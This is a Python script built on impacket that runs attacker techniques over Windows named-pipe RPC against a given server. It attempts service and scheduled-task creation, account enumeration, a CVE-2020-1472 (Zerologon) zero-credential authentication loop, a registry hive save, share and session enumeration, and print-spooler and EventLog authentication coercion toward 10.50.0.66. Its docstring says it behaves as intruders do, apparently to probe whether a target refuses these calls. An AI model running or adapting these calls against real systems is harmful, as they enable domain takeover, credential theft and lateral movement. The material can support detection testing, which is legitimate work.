"""Calls a server through named pipes as administrators and intruders do (impacket).

usage: python rpc_visitor.py ADDRESS USER PASSWORD COMPUTER
"""

from __future__ import annotations

import sys
from collections.abc import Callable
from typing import Any

from impacket.dcerpc.v5 import even, lsat, nrpc, rprn, rrp, samr, scmr, srvs, transport, tsch, wkst
from impacket.dcerpc.v5.rpcrt import DCERPCException


def opened(address: str, user: str, password: str, pipe: str, interface: Any, level: int = 0) -> Any:
    way = transport.DCERPCTransportFactory(f"ncacn_np:{address}[\\pipe\\{pipe}]")
    way.set_credentials(user, password)
    rpc = way.get_dce_rpc()
    if level:
        rpc.set_auth_level(level)
    rpc.connect()
    rpc.bind(interface)
    return rpc


def tried(what: str, call: Callable[[], object]) -> None:
    """A refusal is an answer too."""
    try:
        call()
        print(what, "ok")
    except DCERPCException as said:
        print(what, said)
    except Exception as said:  # the interface is not served, or answers in a form of its own
        print(what, type(said).__name__, said)


def main() -> None:
    address, user, password, computer = sys.argv[1:5]

    def services() -> None:
        rpc = opened(address, user, password, "svcctl", scmr.MSRPC_UUID_SCMR)
        manager = scmr.hROpenSCManagerW(rpc)["lpScHandle"]
        tried("look at a service", lambda: scmr.hROpenServiceW(rpc, manager, "Spooler"))
        tried(
            "make a service",
            lambda: scmr.hRCreateServiceW(
                rpc, manager, "HinomiTest", "Hinomi test", lpBinaryPathName="C:\\Windows\\himitsu.exe --key himitsu"
            ),
        )
        rpc.disconnect()

    def accounts() -> None:
        rpc = opened(address, user, password, "samr", samr.MSRPC_UUID_SAMR, 5)
        server = samr.hSamrConnect(rpc)["ServerHandle"]
        samr.hSamrEnumerateDomainsInSamServer(rpc, server)
        found = samr.hSamrLookupDomainInSamServer(rpc, server, "HOSP")["DomainId"]
        domain = samr.hSamrOpenDomain(rpc, server, domainId=found)["DomainHandle"]
        tried("list accounts", lambda: samr.hSamrEnumerateUsersInDomain(rpc, domain))
        rpc.disconnect()

    def names() -> None:
        rpc = opened(address, user, password, "lsarpc", lsat.MSRPC_UUID_LSAT)
        policy = lsat.lsad.hLsarOpenPolicy2(rpc)["PolicyHandle"]
        tried("look names up", lambda: lsat.hLsarLookupNames(rpc, policy, (user,)))
        rpc.disconnect()

    def directory() -> None:
        # A proof of zeros, tried a few times, as in CVE-2020-1472.
        rpc = opened(address, user, password, "netlogon", nrpc.MSRPC_UUID_NRPC)
        for _ in range(6):
            tried(
                "challenge", lambda: nrpc.hNetrServerReqChallenge(rpc, computer + "\x00", computer + "\x00", b"\0" * 8)
            )
            tried(
                "proof",
                lambda: nrpc.hNetrServerAuthenticate3(
                    rpc, computer + "\x00", computer + "$\x00",
                    nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, computer + "\x00", b"\0" * 8, 0x212FFFFF,
                ),
            )  # fmt: skip
        rpc.disconnect()

    def registry() -> None:
        rpc = opened(address, user, password, "winreg", rrp.MSRPC_UUID_RRP)
        root = rrp.hOpenLocalMachine(rpc)["phKey"]
        tried("open a key", lambda: rrp.hBaseRegOpenKey(rpc, root, "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion"))
        tried("save a key", lambda: rrp.hBaseRegSaveKey(rpc, root, "himitsu.save"))
        rpc.disconnect()

    def server() -> None:
        rpc = opened(address, user, password, "srvsvc", srvs.MSRPC_UUID_SRVS)
        tried("shares", lambda: srvs.hNetrShareEnum(rpc, 1))
        rpc.disconnect()
        rpc = opened(address, user, password, "wkssvc", wkst.MSRPC_UUID_WKST)
        tried("who is logged on", lambda: wkst.hNetrWkstaUserEnum(rpc, 1))
        rpc.disconnect()

    def printers() -> None:
        rpc = opened(address, user, password, "spoolss", rprn.MSRPC_UUID_RPRN)
        printer = rprn.hRpcOpenPrinter(rpc, f"\\\\{address}\x00")["pHandle"]
        tried(
            "turn to another machine",
            lambda: rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
                rpc, printer, rprn.PRINTER_CHANGE_ADD_JOB, pszLocalMachine="\\\\10.50.0.66\x00"
            ),
        )
        rpc.disconnect()

    def others() -> None:
        rpc = opened(address, user, password, "eventlog", even.MSRPC_UUID_EVEN)
        tried("open a log", lambda: even.hElfrOpenBELW(rpc, "\\??\\UNC\\10.50.0.66\\share\\log"))
        rpc.disconnect()
        rpc = opened(address, user, password, "atsvc", tsch.MSRPC_UUID_TSCHS)
        tried("make a task", lambda: tsch.hSchRpcRegisterTask(rpc, "\\HinomiTest", "<Task/>", 6, None, 0))
        rpc.disconnect()

    for look in (services, accounts, names, directory, registry, server, printers, others):
        tried(look.__name__, look)


if __name__ == "__main__":
    main()
